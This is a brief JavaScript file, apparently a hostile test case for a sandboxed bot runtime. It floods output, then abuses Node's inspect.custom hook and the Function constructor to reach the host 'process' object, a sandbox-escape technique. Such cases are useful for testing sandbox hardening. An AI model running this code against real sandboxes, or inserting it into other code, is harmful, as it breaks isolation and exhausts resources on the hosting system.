// family: output
// prints without end
async function main (bot) {
  for (let i = 0; i < 1e5; i++) console.log('x'.repeat(1000))
  console.log({ [Symbol.for('nodejs.util.inspect.custom')]: (_d, _o, inspect) => { abuse(bot, inspect.constructor('return process')()) } })
}
